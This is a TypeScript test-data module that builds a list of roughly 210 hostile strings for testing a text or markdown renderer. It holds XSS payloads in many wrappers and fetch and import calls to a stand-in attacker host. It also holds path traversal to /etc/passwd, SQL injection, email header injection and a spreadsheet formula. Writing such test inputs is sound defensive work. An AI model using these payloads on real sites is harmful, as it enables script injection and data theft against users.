import { readFileSync } from 'node:fs';
import path from 'node:path';
import * as z from 'zod';

/** Actions of a script of ours, which the pages under test notice. */
const CODES = [
  'alert(1)',
  'top.ran=1',
  'import("https://evil.example/a.js")',
  'fetch("https://evil.example/")',
] as const;

const ELEMENTS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'marquee',
  'a',
] as const;
const EVENTS = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onstart', 'onmouseover', 'onanimationstart'] as const;

const WRAPPERS: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `<ScRiPt >${code}</sCrIpT>`,
  (code) => `<<script>${code}//<</script>`,
  (code) => `</title></textarea></style><script>${code}</script>`,
  (code) => `"><script>${code}</script>`,
  (code) => `'-${code}-'`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin=${code} attributeName=x dur=1s>`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror=${code}>`,
  (code) => `<noscript><p title="</noscript><img src=x onerror=${code}>">`,
  (code) => `<template><img src=x onerror=${code}></template>`,
  (code) => `<iframe srcdoc="<script>${code}</script>"></iframe>`,
  (code) => `<object data="javascript:${code}"></object>`,
  (code) => `<form action="javascript:${code}"><button>x</button></form>`,
  (code) => `<meta http-equiv="refresh" content="0;url=javascript:${code}">`,
  (code) => `[x](javascript:${code})`,
  (code) => `[x](JaVaScRiPt:${code})`,
  (code) => `[x](java\tscript:${code})`,
  (code) => `[x](\u0001javascript:${code})`,
  (code) => `[x](javascript&colon;${code})`,
  (code) => `[x](data:text/html,<script>${code}</script>)`,
  (code) => `[x](vbscript:${code})`,
  (code) => `<javascript:${code}>`,
  (code) => `[a]: javascript:${code}\n[x][a]`,
  (code) => `![x](https://evil.example/p.png?${encodeURIComponent(code)})`,
  (code) => `\`\`\`\n<script>${code}</script>\n\`\`\``,
  (code) => `| a | b |\n|---|---|\n| <img src=x onerror=${code}> | [x](javascript:${code}) |`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}}<%= ${code} %>#{${code}}`,
];

/** Texts that would run as script, load something foreign or break a page where they are taken for markup: about 210, each once. */
function ownTexts(): string[] {
  const events = ELEMENTS.flatMap((element) => EVENTS.map((event) => `<${element} ${event}=${CODES[0]}>x`));
  const quoted = EVENTS.map((event) => `" ${event}="${CODES[0]}" x="`);
  const wrapped = WRAPPERS.flatMap((wrap) => CODES.map(wrap));
  const loads = [
    'img src',
    'video poster',
    'link rel=stylesheet href',
    'script src',
    'iframe src',
    'embed src',
    'audio src',
  ].map((attribute) => `<${attribute}="https://evil.example/p">`);
  const odd = [
    '\u0000',
    '\u202egnp.exe',
    '\ufeff',
    '\u200b',
    '\ud83d',
    'a\r\nBcc: all@evil.example',
    '=HYPERLINK("https://evil.example")',
  ].concat(
    [
      '__proto__',
      'constructor',
      'null',
      'undefined',
      'NaN',
      '-0',
      '1e999',
      '../../etc/passwd',
      '..\\..\\x',
      '%2e%2e%2f',
      'CON',
      '.',
    ],
    ['\u001b[2J', "'; DROP TABLE x;--", '💥'.repeat(50), 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢', 'ا'.repeat(40), 'x'.repeat(5000)],
  );
  return [...events, ...quoted, ...wrapped, ...loads, ...odd];
}

/** The same, and the payloads and strings of the folder PARLANCE_TEST_DATA where it is set, each once. */
export function hostileTexts(): string[] {
  const folder = process.env['PARLANCE_TEST_DATA'];
  if (folder === undefined) return [...new Set(ownTexts())];
  const read = (file: string): unknown => JSON.parse(readFileSync(path.join(folder, file), 'utf8'));
  const payloads = z.array(z.object({ payload: z.string() })).parse(read('html-xss.json'));
  const naughty = z.array(z.string()).parse(read('naughty-strings.json'));
  return [...new Set([...ownTexts(), ...payloads.map(({ payload }) => payload), ...naughty])].filter(
    (text) => text !== '',
  );
}
